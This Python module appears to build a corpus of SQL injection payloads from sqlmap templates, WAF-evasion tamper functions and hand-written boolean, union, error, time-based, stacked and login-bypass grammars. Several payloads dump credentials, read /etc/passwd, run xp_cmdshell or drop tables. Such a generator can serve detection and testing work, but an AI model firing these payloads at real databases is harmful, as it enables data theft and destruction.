"""SQL injection attack grammars. Each function takes the explicit random.Random and
returns a payload."""
import importlib
import os
import re
import sys
import xml.etree.ElementTree as ET

from ..draw import chance, pick, rnum, rstr

SQL_TABLES = ["users", "admin", "accounts", "members", "information_schema.tables", "mysql.user", "sysobjects", "pg_user", "customers", "wp_users"]
SQL_COLS = ["username", "password", "user", "pass", "email", "table_name", "column_name", "name", "passwd", "login"]


class SQLMapPayloads:
    """Templates shipped in the sqlmap package, with placeholders filled."""

    def __init__(self):
        import sqlmap
        base = os.path.dirname(sqlmap.__file__)
        self.base = base
        self.by_type = {}
        stype_family = {"1": "sqli_boolean", "2": "sqli_error", "3": "sqli_inline", "4": "sqli_stacked", "5": "sqli_time"}
        for fn in sorted(os.listdir(os.path.join(base, "data/xml/payloads"))):
            root = ET.parse(os.path.join(base, "data/xml/payloads", fn)).getroot()
            for t in root.iter("test"):
                pl = t.findtext("request/payload")
                st = t.findtext("stype")
                if pl and st in stype_family:
                    self.by_type.setdefault(stype_family[st], []).append(pl.strip())
        self.prefixes, self.suffixes = ["", "'", "\"", ")", "')", "\")", "'))", "1", "1'", "-1'", "%'"], ["", "-- -", "#", "--", "/*", "AND '1'='1", "AND 1=1", "-- ", "; --", "' AND '1'='1", "OR '1'='1"]
        sys.path.insert(0, base)
        self.tampers = {}
        for n in ["space2comment", "between", "equaltolike", "space2dash", "space2randomblank", "symboliclogical",
                  "apostrophenullencode", "modsecurityversioned", "escapequotes", "binary", "0eunion", "dunion",
                  "misunion", "greatest", "if2case", "sp_password", "space2plus", "charunicodeencode", "percentage",
                  "charencode", "chardoubleencode", "overlongutf8", "space2mssqlblank", "unmagicquotes", "hexentities", "decentities"]:
            # A tamper that fails to import is an error: the corpus must not
            # change with the environment.
            self.tampers[n] = importlib.import_module("tamper." + n).tamper

    def fill(self, r, s):
        subs = {
            "[RANDNUM]": rnum, "[RANDNUM1]": rnum, "[RANDNUM2]": rnum, "[RANDNUM3]": rnum, "[RANDNUM4]": rnum, "[RANDNUM5]": rnum,
            "[RANDSTR]": rstr, "[RANDSTR1]": rstr, "[RANDSTR2]": rstr, "[RANDSTR3]": rstr, "[RANDSTR4]": rstr,
            "[SLEEPTIME]": lambda r: str(r.randint(1, 10)), "[DELIMITER_START]": lambda r: "q" + rstr(r, 3).lower() + "q",
            "[DELIMITER_STOP]": lambda r: "q" + rstr(r, 3).lower() + "q", "[DELAYED]": lambda r: str(r.randint(1, 9)),
            "[INFERENCE]": lambda r: pick(r, ["1=1", "ASCII(SUBSTRING((SELECT user()),1,1))>64", "(SELECT COUNT(*) FROM users)>0", f"{rnum(r)}={rnum(r)}"]),
            "[GENERIC_SQL_COMMENT]": lambda r: pick(r, ["-- -", "#", "/* */"]), "[ORIGVALUE]": rnum, "[QUERY]": lambda r: pick(r, ["SELECT user()", "SELECT @@version", "SELECT password FROM users LIMIT 1"]),
            "[SLEEPTIME2]": lambda r: "5",
        }
        for k, fn in subs.items():
            while k in s:
                s = s.replace(k, fn(r), 1)
        return re.sub(r"\[[A-Z_0-9]+\]", lambda m: rnum(r), s)

    def payload(self, r, family):
        t = self.fill(r, pick(r, self.by_type[family]))
        return f"{pick(r, self.prefixes)} {t} {pick(r, self.suffixes)}".strip()


def sqli_boolean(r, sm):
    if chance(r, 0.4):
        return sm.payload(r, "sqli_boolean")
    q = pick(r, ["'", "\"", "", "')", "1'", "1", "admin'", "x')", "%'"])
    a, b = rnum(r), rnum(r)
    cond = pick(r, [f"{a}={a}", f"'{a}'='{a}", f"{a}>{int(a)-1}", "true", f"'{rstr(r, 1)}' LIKE '{rstr(r, 1)}", f"{a}<>{b}", f"{a} BETWEEN {a} AND {a}", "1", "2>1", f"ASCII(SUBSTRING(user(),1,1))>{r.randint(60, 120)}", f"(SELECT COUNT(*) FROM {pick(r, SQL_TABLES)})>0"])
    op = pick(r, ["OR", "AND", "||", "&&", "or", "and", "XOR"])
    return f"{q} {op} {cond}{pick(r, ['', ' -- -', '#', '--', ' /*', ';--', ' -- ', ' LIMIT 1-- -'])}".strip()


def sqli_union(r, sm):
    q = pick(r, ["'", "\"", "", "')", "1'", "-1", "0", "1", "-1'", "')) "])
    n = r.randint(1, 8)
    cols = [pick(r, ["NULL", rnum(r), pick(r, SQL_COLS), "@@version", "version()", "user()", "database()", "current_user", f"concat({pick(r, SQL_COLS)},0x3a,{pick(r, SQL_COLS)})", f"group_concat({pick(r, SQL_COLS)})", "table_name", "load_file('/etc/passwd')", "'a'"]) for _ in range(n)]
    frm = f" FROM {pick(r, SQL_TABLES)}" if chance(r, 0.6) else ""
    where = f" WHERE {pick(r, ['table_schema=database()', '1=1', 'id=1', 'table_name=' + repr(pick(r, SQL_TABLES))])}" if chance(r, 0.3) else ""
    return f"{q} UNION {pick(r, ['', 'ALL ', 'DISTINCT '])}SELECT {','.join(cols)}{frm}{where}{pick(r, ['', '-- -', '#', '--', ' LIMIT 1', '/*'])}".strip()


def sqli_error(r, sm):
    if chance(r, 0.6):
        return sm.payload(r, "sqli_error")
    q = pick(r, ["'", "\"", "1'", "1", ")"])
    e = pick(r, [f"extractvalue(1,concat(0x7e,({pick(r, ['select user()', 'select @@version', 'select database()'])})))",
              f"updatexml(1,concat(0x7e,(select {pick(r, SQL_COLS)} from {pick(r, SQL_TABLES)} limit 1)),1)",
              "convert(int,(select @@version))", "cast((select version()) as int)", "1/0", "exp(~(select * from (select user())x))",
              "(select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)"])
    return f"{q} {pick(r, ['AND', 'OR', 'and'])} {e}{pick(r, ['', '-- -', '#'])}"


def sqli_time(r, sm):
    if chance(r, 0.5):
        return sm.payload(r, "sqli_time")
    q = pick(r, ["'", "\"", "1'", "1", "')", ""])
    s = r.randint(1, 15)
    t = pick(r, [f"SLEEP({s})", f"pg_sleep({s})", f"WAITFOR DELAY '0:0:{s}'", f"BENCHMARK({r.randint(10**5, 10**7)},MD5(1))",
              f"(SELECT * FROM (SELECT(SLEEP({s})))a)", f"IF(1=1,SLEEP({s}),0)", f"dbms_pipe.receive_message(('a'),{s})", f"randomblob({r.randint(10**8, 10**9)})"])
    return f"{q} {pick(r, ['AND', 'OR', ';', '||', 'and'])} {t}{pick(r, ['', '-- -', '#', '--'])}".strip()


def sqli_stacked(r, sm):
    if chance(r, 0.5):
        return sm.payload(r, "sqli_stacked")
    q = pick(r, ["'", "1'", "1", "\"", "');"])
    st = pick(r, [f"DROP TABLE {pick(r, SQL_TABLES)}", f"INSERT INTO users(username,password) VALUES('{rstr(r)}','{rstr(r)}')",
               f"UPDATE users SET password='{rstr(r)}' WHERE username='admin'", "EXEC xp_cmdshell 'whoami'", "SHUTDOWN",
               f"DELETE FROM {pick(r, SQL_TABLES)}", "DECLARE @q varchar(99); SET @q='x'; EXEC(@q)", "CREATE USER hacker IDENTIFIED BY 'x'"])
    return f"{q}; {st}{pick(r, ['', '-- -', ';--', '#'])}"


# The catalogs of five database engines, which written-out probes read.
SQL_CATALOGS = ["sysibm.systables", "sysibm.sysversions", "pg_shadow", "pg_group", "pg_user", "pg_database", "master..sysdatabases",
                "sys.tables", "sys.sql_logins", "all_tables", "user_tables", "dba_users", "v$version", "sqlite_master",
                "mysql.user", "information_schema.columns", "information_schema.schemata", "msysobjects", "sysusers"]


def sqli_statement(r):
    """A whole statement with nothing in front of it: a parameter that is
    pasted into a query as SQL, or a stacked query's second half."""
    cols = pick(r, ["*", "name", "username, password", "versionnumber, version_timestamp", "usename, passwd", "count(*)",
                    "table_name", "@@version", "user", "banner"])
    end = pick(r, ["", ";", ";--", " --", "#", " limit 1"])
    return pick(r, [f"select {cols} from {pick(r, SQL_CATALOGS)}{end}", f"SELECT {cols} FROM {pick(r, SQL_CATALOGS)} WHERE 1{end}",
                    f"create table {rstr(r)} (input TEXT){end}", f"insert into {pick(r, SQL_TABLES)} values ('{rstr(r)}'){end}",
                    f"drop table {pick(r, SQL_TABLES)}{end}", f"grant connect to {rstr(r)}; grant resource to {rstr(r)};",
                    f"exec master..xp_cmdshell '{pick(r, ['dir', 'whoami', 'net user'])}'", f"select @@{pick(r, ['version', 'hostname', 'datadir', 'servername'])}",
                    f"{r.randint(0, 9)}{pick(r, ['or', 'OR', 'and'])}{r.randint(0, 9)}={r.randint(0, 9)}", f"ORDER BY {r.randint(1, 40)}{end}",
                    f"update {pick(r, SQL_TABLES)} set password='{rstr(r)}'{end}", f"delete from {pick(r, SQL_TABLES)}{end}"])


def sqli_inline(r, sm):
    if chance(r, 0.2):
        return sqli_statement(r)
    if chance(r, 0.5):
        # Login-form bypasses: a user name, a quote, and a comment or an
        # always-true tail.
        user = pick(r, ["admin", "root", "administrator", "user", "test", "", "guest", "sa", "1", "a"])
        q = pick(r, ["'", "\"", "')", "\")", "'))"])
        tail = pick(r, ["--", "-- -", "#", "/*", ";--", ";%00", " or '1'='1", " or 1=1--", " or ''='", "||'1'='1", " or 1#", " OR 'x'='x'--",
                     " and 1=1#", " limit 1-- -", "=''or'", " or true--", ") or ('a'='a", "/**/or/**/1=1#"])
        return f"{user}{q}{pick(r, ['', ' '])}{tail}"
    return pick(r, [f"(SELECT {pick(r, SQL_COLS)} FROM {pick(r, SQL_TABLES)} LIMIT 1)", f"1 ORDER BY {r.randint(1, 20)}-- -",
                 f"1' ORDER BY {r.randint(1, 20)}#", f"{rnum(r)} GROUP BY {r.randint(1, 5)} HAVING 1=1--", f"1 AND (SELECT SUBSTR({pick(r, SQL_COLS)},1,1) FROM {pick(r, SQL_TABLES)})='a'",
                 f"' OR ''='", f"1' procedure analyse()#", pick(r, ["@@version", "@@datadir", "@@hostname", "user()", "version()", "database()"]),
                 f"1;SELECT pg_sleep({r.randint(1, 9)})", f"{rnum(r)}-{rnum(r)}", f"{rnum(r)} div 0", f"if(1=1,1,0)", f"case when 1=1 then 1 else 0 end",
                 f"{rnum(r)} rlike (select 1)", f"1) and ({rnum(r)}={rnum(r)}", f"(select(0)from(select(sleep({r.randint(1, 9)})))v)"])


